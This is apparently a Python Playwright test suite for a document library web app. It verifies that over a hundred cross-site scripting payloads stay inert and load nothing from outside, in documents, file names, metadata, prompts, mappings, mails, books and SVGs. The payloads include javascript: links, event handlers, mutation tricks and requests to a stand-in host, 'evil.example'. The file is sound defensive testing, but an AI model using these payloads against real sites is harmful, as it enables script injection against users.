"""Hostile documents in a real browser: nothing of them runs, nothing is asked from elsewhere, nothing is refused.

Each payload would set `window.ran`, open a dialog or ask `evil.example` if it got through. That the policy of the page
refuses something counts as a failure too: it is the second wall, and nothing should reach it. Pages that show many
payloads together are also opened in a browser that ignores the policy, where whatever gets through runs.
"""

from __future__ import annotations

import json
from collections import ChainMap
from collections.abc import Callable, Iterator, Mapping, Sequence
from email.message import EmailMessage
from html import escape

import pytest
from playwright.sync_api import Dialog, Page

from tests.browser.conftest import OpenBrowser
from tests.support.browser import Visitor, until
from tests.support.office import core, docx, epub, paragraph

RUN = "window.ran=1;alert(1)"
EVIL = "https://evil.example"

LINKS = {
    "javascript": f"[a](javascript:{RUN})",
    "capitals": f"[a](JaVaScRiPt:{RUN})",
    "angle brackets": f"[a](<javascript:{RUN}>)",
    "entity": f"[a](javascript&colon;{RUN})",
    "numbers": f"[a](&#106;&#97;&#118;ascript:{RUN})",
    "hex numbers": f"[a](&#x6A;avascript:{RUN})",
    "newline entity": f"[a](java&#10;script:{RUN})",
    "tab entity": f"[a](java&Tab;script:{RUN})",
    "control character": f"[a](\x01javascript:{RUN})",
    "vbscript": f"[a](vbscript:{RUN})",
    "data": f"[a](data:text/html,<script>{RUN}</script>)",
    "data base64": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file": "[a](file:///etc/passwd)",
    "blob": f"[a](blob:{EVIL}/1)",
    "view-source": f"[a](view-source:{EVIL})",
    "autolink": f"<javascript:{RUN}>",
    "autolink data": f"<data:text/html,<script>{RUN}</script>>",
    "definition": f"[a][b]\n\n[b]: javascript:{RUN}",
    "definition title": f'[a][b]\n\n[b]: https://x.example "\\" onmouseover=\\"{RUN}"',
    "title": f"[a](https://x.example '\" autofocus onfocus={RUN} x=\"')",
    "quote in address": f'[a](https://x.example/"onmouseover="{RUN})',
    "base": f'<base href="{EVIL}/">\n\n[a](b)',
    "protocol-relative": "[a](//evil.example/a)",
    "backslashes": "[a](\\\\evil.example/a)",
    "user info": f"[a](https://x.example@evil.example) <a href='javascript:{RUN}'>b</a>",
}
PICTURES = {
    "picture": f"![a]({EVIL}/a.png)",
    "picture onerror": f'![a"onerror="{RUN}](x)',
    "picture in a link": f"[![a]({EVIL}/a.png)](javascript:{RUN})",
    "picture javascript": f"![a](javascript:{RUN})",
    "picture data svg": f"![a](data:image/svg+xml,<svg/onload={RUN}>)",
    "picture reference": f"![a][b]\n\n[b]: {EVIL}/a.png",
    "tag": f"<img src=x onerror={RUN}>",
    "tag without a space": f"<img/src=x/onerror={RUN}>",
    "tag srcset": f"<img srcset='{EVIL}/a.png 2x'>",
    "tag open": f"<img src='x' onerror='{RUN}'",
    "tag alt": f"<img alt='<script>{RUN}</script>' src={EVIL}/a.png>",
    "picture tag": f"<picture><source srcset={EVIL}/a.png><img src={EVIL}/b.png></picture>",
    "image tag": f"<image src=x onerror={RUN}>",
    "input": f"<input type=image src={EVIL}/a.png onerror={RUN} autofocus>",
    "video": f"<video poster={EVIL}/a.png onloadstart={RUN}><source src={EVIL}/a.mp4 onerror={RUN}></video>",
    "audio": f"<audio src={EVIL}/a.mp3 onerror={RUN} autoplay></audio>",
}
TAGS = {
    "script": f"<script>{RUN}</script>",
    "script src": f"<script src={EVIL}/a.js></script>",
    "script in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script with slash": f"<script/x>{RUN}</script>",
    "script in a list": f"- <script>\n  {RUN}\n  </script>",
    "script in a quote": f"> <script>{RUN}</script>",
    "script in a table": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "script in a heading": f"# <script>{RUN}</script>",
    "iframe": f"<iframe src=javascript:{RUN}></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data={EVIL}/a></object><embed src={EVIL}/b>",
    "style": f"<style>@import '{EVIL}/a.css'; body{{background:url({EVIL}/b)}}</style>",
    "style attribute": f"<p style='background:url({EVIL}/a)'>a</p>",
    "link": f"<link rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/b>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "form": f"<form action={EVIL}><input name=a><button autofocus onfocus={RUN}>b</button></form>",
    "button formaction": f"<form><button formaction=javascript:{RUN}>a</button></form>",
    "details": f"<details open ontoggle={RUN}><summary>a</summary>b</details>",
    "marquee": f"<marquee onstart={RUN}>a</marquee>",
    "body": f"<body onload={RUN} background={EVIL}/a.png>",
    "any event": f"<p onclick={RUN} onmouseover={RUN} onpointerenter={RUN}>a</p>",
    "autofocus": f"<a href=# autofocus onfocus={RUN} tabindex=1>a</a>",
    "animation": f"<p onanimationstart={RUN} class=skeleton>a</p>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "portal": f"<portal src={EVIL}></portal><frameset onload={RUN}><frame src={EVIL}></frameset>",
    "dialog": f"<dialog open onclose={RUN}>a</dialog>",
    "custom element": f"<x-y onclick={RUN} is=script>a</x-y>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "fence": f"```html\n<script>{RUN}</script>\n```",
    "fence info": f'```"><script>{RUN}</script>\n```',
    "code": f"`<img src=x onerror={RUN}>`",
}
MUTATIONS = {
    "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='{EVIL}/a.svg#b'/></svg>",
    "svg foreign object": f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    "svg style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "svg a": f"<svg><a xlink:href=javascript:{RUN}><text y=9>a</text></a></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'></math>",
    "math link": f"<math href=javascript:{RUN}>a</math>",
    "math annotation": f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "title in title": f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    "textarea": f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    "xmp": f"<xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "select": f"<select><style></select><img src=x onerror={RUN}></style>",
    "nested forms": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}></style>",
    "comment end": f"<!--> <img src=x onerror={RUN}> -->",
    "comment bang": f"<!-- --!> <img src=x onerror={RUN}> -->",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "cdata in svg": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "double entities": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "split emphasis": f"<im*g src=x onerror={RUN}*>",
    "attribute break": f"<p title='\"><img src=x onerror={RUN}>'>a</p>",
    "backticks": f"<p title=`><img src=x onerror={RUN}>`>a</p>",
    "table foster": f"<table><td><img src=x onerror={RUN}></table><script>{RUN}</script>",
    "deep": "<b>" * 600 + f"<img src=x onerror={RUN}>",
    "clobbering": "<p id=leaves>a</p><a id=state name=one href=x>b</a><form id=text><input name=dataset></form>",
    "our hooks": f"<p data-copy-text=a data-open=about data-verb=trash>a</p><a data-later href={EVIL}>b</a>",
    "heading id": f'# A {{#x" onclick="{RUN}}}\n\n<h2 id="h-1" onclick={RUN}>b</h2>',
    "front matter": f"---\ntitle: <img src=x onerror={RUN}>\nauthor: '<script>{RUN}</script>'\n---\n\n# a",
    "template language": "{{ 7*7 }} {% include 'base.html' %} ${alert(1)} #{alert(1)}",
}  # fmt: skip
TEXTS: Mapping[str, Mapping[str, str]] = {"links": LINKS, "pictures": PICTURES, "tags": TAGS, "mutations": MUTATIONS}
LABELS = {
    "script": f"<script>{RUN}</script>",
    "closing title": f"</title><script>{RUN}</script>",
    "picture": f"<img src=x onerror={RUN}>",
    "attribute": f'" autofocus onfocus="{RUN}" x="',
    "single quote": f"' onmouseover='{RUN}",
    "svg": f"</h1><svg onload={RUN}>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "template": "{{ 7*7 }}{% raw %}",
    "javascript": f"javascript:{RUN}",
    "right to left": "\u202egnp.\u202c<b>x</b>",
    "option": f'"></option><script>{RUN}</script>',
    "comment": f"--><img src=x onerror={RUN}><!--",
}
# Each gets out of another place: an element, an attribute in either kind of quotes, a comment. Pages show all of them
# together; what one of them would do, it also does behind the others. (A file's name begins after its last slash.)
LABELS["together"] = "".join(LABELS[name] for name in ("closing title", "attribute", "single quote", "comment"))
TOGETHER_ONLY = [list(LABELS).index("together")]
together_or_each = pytest.mark.parametrize(
    "shown", [TOGETHER_ONLY, pytest.param(range(len(LABELS)), marks=pytest.mark.long)], ids=["together", "each"]
)
ASKED = """() => {
  const allowed = new Set("A ABBR B BR CITE CODE DEL DFN EM I INS KBD MARK Q S SAMP SMALL STRONG SUB SUP U VAR WBR BLOCKQUOTE CAPTION DD DL DT H2 H3 H4 H5 H6 HR LI OL P PRE TABLE TBODY TD TFOOT TH THEAD TR UL DIV SPAN SECTION DETAILS SUMMARY NAV math mrow mi mn mo mtext mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd".split(" "));
  const wrong = [];
  for (const one of document.querySelectorAll(".window *")) {
    if (!allowed.has(one.tagName)) wrong.push(one.outerHTML);
  }
  for (const one of document.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (name.startsWith("on") || name === "style" || name === "srcdoc") wrong.push(`${one.tagName} ${name}=${value}`);
    }
    if (one instanceof HTMLAnchorElement && one.hasAttribute("href") && !["http:", "https:", "mailto:"].includes(one.protocol)) wrong.push(one.outerHTML);
  }
  if (window.ran) wrong.push("it ran");
  return wrong.map((one) => one.slice(0, 200));
}"""  # noqa: E501 - a script


def watch_dialogs(page: Page) -> list[str]:
    opened: list[str] = []

    def close(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", close)
    return opened


def without_policy(member: Visitor, open_browser: OpenBrowser) -> Visitor:
    """The same person in a browser that ignores the content security policy."""
    return open_browser(member.session, bypass_csp=True)


def look(visitor: Visitor, paths: Iterator[str]) -> dict[str, list[str]]:
    """Open each page; what is in its paragraphs."""
    dialogs, paragraphs = watch_dialogs(visitor.page), dict[str, list[str]]()
    for path in paths:
        page = visitor.open(path)
        page.mouse.move(600, 300)
        assert page.evaluate(ASKED) == [], path
        paragraphs[path] = page.locator(".window p").all_inner_texts()
    assert dialogs == []
    visitor.watch.check()
    return paragraphs


def test_there_are_enough_of_them() -> None:
    assert sum(map(len, TEXTS.values())) + len(LABELS) >= 100


def test_the_alarm_rings(member: Visitor) -> None:
    """What would have got through is noticed: by what is on the page, and by the page's own policy."""
    member.watch.expect("CSP refused", "Content Security Policy", "outside:", "Failed to load resource")
    page = member.open(f"/documents/{member.add('a.md', '# A')}")
    for text in (PICTURES["tag"], PICTURES["tag srcset"], LINKS["user info"]):
        page.evaluate("(html) => document.querySelector('.window').insertAdjacentHTML('beforeend', html)", text)
    assert len(page.evaluate(ASKED)) >= 3
    until(page, lambda: member.watch.wrong, "the policy refused it")


def test_the_alarm_rings_without_the_policy_too(member: Visitor, open_browser: OpenBrowser) -> None:
    bare = without_policy(member, open_browser)
    bare.watch.expect("outside:", "Failed to load resource")
    dialogs = watch_dialogs(bare.page)
    page = bare.open(f"/documents/{member.add('a.md', '# A')}")
    for text in (PICTURES["tag"], PICTURES["tag srcset"]):
        page.evaluate("(html) => document.querySelector('.window').insertAdjacentHTML('beforeend', html)", text)
    until(page, lambda: dialogs, "it runs")
    assert "it ran" in page.evaluate(ASKED)


@pytest.mark.parametrize("together", [40, pytest.param(7, marks=pytest.mark.long)])
def test_a_hostile_text_does_nothing(member: Visitor, together: int) -> None:
    """Some in one document, between paragraphs, which show that none hides what comes after it.

    A document has all of a kind; in the long form, seven.
    """
    kinds = [list(kind.items()) for kind in TEXTS.values()]
    groups = [texts[start : start + together] for texts in kinds for start in range(0, len(texts), together)]
    documents = [member.upload(f"{number}.md", join(group)) for number, group in enumerate(groups)]
    member.wait_for_all(documents)
    found = look(member, iter([*(f"/documents/{one}" for one in documents), "/library", "/library?view=cards"]))
    for document, group in zip(documents, groups, strict=True):
        paragraphs = found[f"/documents/{document}"]
        assert {name for name, _ in group if f"After {name}." not in paragraphs} == set()


def join(texts: list[tuple[str, str]]) -> str:
    """A file that begins with a tag could be a picture or a page."""
    return "Text.\n\n" + "".join(f"{text}\n\nAfter {name}.\n\n" for name, text in texts)


def test_a_text_with_nul_characters_does_nothing(member: Visitor) -> None:
    document = member.add("nul.md", f"<scr\x00ipt>{RUN}</scr\x00ipt>\n\nThe end.")
    look(member, iter([f"/documents/{document}", "/library"]))


def test_hostile_texts_do_nothing_when_they_are_loaded_later(member: Visitor, open_browser: OpenBrowser) -> None:
    """All of them in one document, in windows that a script puts on the page, with and without the policy."""
    # Words that are too long to mean anything, so that nobody spends time on their meaning.
    filler = "\n\n".join(("fill" * 30 + " ") * 28 for _ in range(30))
    hostile = "\n\nAnd then\n\n".join(text for kind in TEXTS.values() for text in kind.values())
    document = member.add("all.md", f"{filler}\n\n{hostile}\n\n{filler}\n\nThe end.")
    for visitor in (member, without_policy(member, open_browser)):
        read_to_the_end(visitor, document)


def read_to_the_end(visitor: Visitor, document: str) -> None:
    dialogs = watch_dialogs(visitor.page)
    page = visitor.open(f"/documents/{document}")

    def is_whole() -> bool:
        page.evaluate("document.querySelector('#text').scrollTo(0, 1e7)")
        return page.locator(".window").last.get_attribute("data-later") == ""

    until(page, is_whole, "all of the text is there")
    assert page.locator(".window").count() > 2
    assert page.evaluate(ASKED) == []
    assert dialogs == []
    visitor.watch.check()


@together_or_each
def test_a_hostile_name_does_nothing(member: Visitor, open_browser: OpenBrowser, shown: Sequence[int]) -> None:
    """All of them in the library, some with their own pages; the long form opens the page of each."""
    labels = list(LABELS.values())
    documents = [member.upload(f"{name}.md", f"Text {number}") for number, name in enumerate(labels)]
    kept = [member.upload(f"{labels[one]}.bin", bytes([0, 1, one])) for one in shown]
    member.wait_for_all([*documents, *kept])
    assert LABELS["attribute"] in member.document(documents[-1])["filename"]
    pages = [f"/documents/{one}" for one in [*(documents[number] for number in shown), *kept]]
    forms = [f"/documents/{documents[one]}/{page}" for one in shown for page in ("edit", "history")]
    look(member, iter([*pages, *forms, "/library", "/library?view=cards"]))
    look(without_policy(member, open_browser), iter([pages[0], *forms[:2], "/library", "/library?view=cards"]))


def as_markup() -> list[tuple[str, str]]:
    """Those payloads that are tags, as they are written in pages, books and mails."""
    return [(name, text) for kind in (PICTURES, TAGS, MUTATIONS) for name, text in kind.items() if text[0] == "<"]


def hostile_page(markup: list[tuple[str, str]]) -> str:
    title, body = LABELS["closing title"], "".join(f"{text}<p>After {name}.</p>\n" for name, text in markup)
    return f"<!doctype html><html><head><title>{title}</title></head><body><h1>A page</h1>\n{body}</body></html>"


def hostile_mail(markup: list[tuple[str, str]]) -> bytes:
    mail = EmailMessage()
    for header, label in {"Subject": "script", "From": "picture", "To": "svg"}.items():
        mail[header] = f"{LABELS[label]} <a@example.org>" if header != "Subject" else LABELS[label]
    mail.set_content(hostile_page(markup), subtype="html")
    name = f"{LABELS['picture']}.svg"
    mail.add_attachment(f"{HOSTILE_DRAWING}\n".encode(), maintype="image", subtype="svg+xml", filename=name)
    return mail.as_bytes()


HOSTILE_DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  width="200" height="100" onload="{RUN}"><title>&lt;img src=x onerror={RUN}&gt;</title>
  <script>{RUN}</script><image href="{EVIL}/a.png" width="9" height="9"/><use href="{EVIL}/a.svg#b"/>
  <foreignObject width="99" height="99">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{RUN}"/></foreignObject>
  <a xlink:href="javascript:{RUN}"><text y="20">&lt;script&gt;{RUN}&lt;/script&gt; Words</text></a></svg>"""


def hostile_files() -> dict[str, bytes]:
    markup = as_markup()
    chapters = {f"c{n}.xhtml": hostile_page([one]) for n, one in enumerate(markup)}
    label = escape(LABELS["script"])
    return {
        "page.html": hostile_page(markup).encode(),
        "drawing.svg": HOSTILE_DRAWING.encode(),
        "book.epub": epub(chapters, toc=f'<li><a href="c0.xhtml">{label}</a></li>'),
        "mail.eml": hostile_mail(markup),
        "letter.docx": docx(paragraph(label), more={"docProps/core.xml": core(label, escape(LABELS["picture"]))}),
        "table.csv": f"{LABELS['picture']};{LABELS['script']}\n1;2\n3;4\n".encode(),
    }


def test_hostile_files_of_every_kind_do_nothing(member: Visitor, open_browser: OpenBrowser) -> None:
    """Pages, drawings, books, mails with their attachments, letters and tables, with and without the policy."""
    for name, content in hostile_files().items():
        member.upload(name, content)
    member.wait_for_all([one["id"] for one in member.documents()])
    found = {one["filename"]: one for one in member.documents()}
    member.wait_for_all([one["id"] for one in found.values()])  # the drawing in the mail is one, too
    assert len(found) == len(hostile_files()) + 1
    assert all(found[name]["text_ready"] for name in hostile_files() if name != "drawing.svg")
    pages = [f"/documents/{one['id']}" for one in found.values()]
    for visitor in (member, without_policy(member, open_browser)):
        texts = look(visitor, iter([*pages, "/library", "/library?view=cards"]))
        for name in ("page.html", "mail.eml"):
            assert any(one.startswith("After ") for one in texts[f"/documents/{found[name]['id']}"]), name


Spoil = Callable[[str], dict[str, object]]
FIELDS: dict[str, Spoil] = {
    "title": lambda text: {"title": text},
    "author": lambda text: {"author": text},
    "tags": lambda text: {"tags": [text, "plain"]},
    "collection": lambda text: {"collection": text},
}


@together_or_each
def test_what_people_write_about_a_document_does_nothing(
    member: Visitor, open_browser: OpenBrowser, shown: Sequence[int]
) -> None:
    """The same words in every field at once: all in the library, some on their own pages, in the long form each."""
    documents = [member.upload(f"{number}.md", f"Text {number}") for number in range(len(LABELS))]
    member.wait_for_all(documents)
    for document, text in zip(documents, LABELS.values(), strict=True):
        fields = dict(ChainMap(*(spoil(text) for spoil in FIELDS.values())))
        member.ask("PATCH", f"/documents/{document}", json=fields)
    pages = [f"/documents/{documents[one]}" for one in shown]
    forms = [f"{page}/edit" for page in pages]
    look(member, iter([*pages, *forms, "/library", "/library?view=cards"]))
    look(without_policy(member, open_browser), iter([pages[0], forms[0], "/library", "/library?view=cards"]))


def hostile_mapping(number: int, text: str) -> str:
    """Every text of it that is free. JSON is YAML."""
    field = {"type": "text", "xml": "N", "labels": {"en": [text]}}
    return json.dumps({"name": f"hostile{number}_v1", "title": text, "xml": "H", "fields": {"number": field}})


@together_or_each
def test_prompts_and_mappings_with_hostile_names_do_nothing(
    member: Visitor, open_browser: OpenBrowser, shown: Sequence[int]
) -> None:
    """On the pages that list them, show one, let choose among them, and say what is wrong with them.

    The lists have all of them; some are shown, in the long form each.
    """
    document = member.upload("a.md", "# A")
    prompts = [
        member.ask("POST", "/prompts", json={"title": text, "content": text, "system": text})["id"]
        for text in LABELS.values()
    ]
    for number, text in enumerate(LABELS.values()):
        member.ask("POST", "/mappings", json={"text": hostile_mapping(number, text)})
    member.wait_for(document, "completed")
    lists = ["/settings/prompts", "/settings/mappings", f"/analyses/new?document={document}", "/conversions"]
    prompt_pages = [f"/settings/prompts/{prompts[0]}/delete", *(f"/settings/prompts/{prompts[one]}" for one in shown)]
    mapping_pages = [f"/settings/mappings/hostile{number}_v1" for number in shown]
    look(member, iter([*lists, *prompt_pages, *mapping_pages]))
    bare = without_policy(member, open_browser)
    look(bare, iter([*lists, *prompt_pages[:2], mapping_pages[0]]))
    for visitor in (member, bare):
        refuse_mappings(visitor)


def refuse_mappings(visitor: Visitor) -> None:
    """A mapping that is refused is shown again, with a message that quotes it."""
    visitor.watch.expect("422", "400")
    dialogs = watch_dialogs(visitor.page)
    wrong = {name: f"name: {json.dumps(text)}\nxml: H\n{json.dumps(text)}: 1" for name, text in LABELS.items()}
    for name in ("picture", "together"):
        page = visitor.open("/settings/mappings")
        page.get_by_label("Mapping in YAML, or an invoice2data template").fill(wrong[name])
        page.get_by_role("button", name="Add", exact=True).click()
        page.get_by_role("alert").wait_for()
        assert page.evaluate(ASKED) == []
    assert dialogs == []


def test_hostile_words_in_an_address_do_nothing(member: Visitor) -> None:
    document = member.add("a.md", "# A")
    fields = FIELDS["title"](LABELS["attribute"]) | FIELDS["tags"](LABELS["attribute"])
    member.ask("PATCH", f"/documents/{document}", json=fields)
    look(
        member,
        (f"/documents/{document}?{name}=%22%3E%3Cscript%3E{RUN}%3C/script%3E" for name in ("p", "at", "c", "panel")),
    )
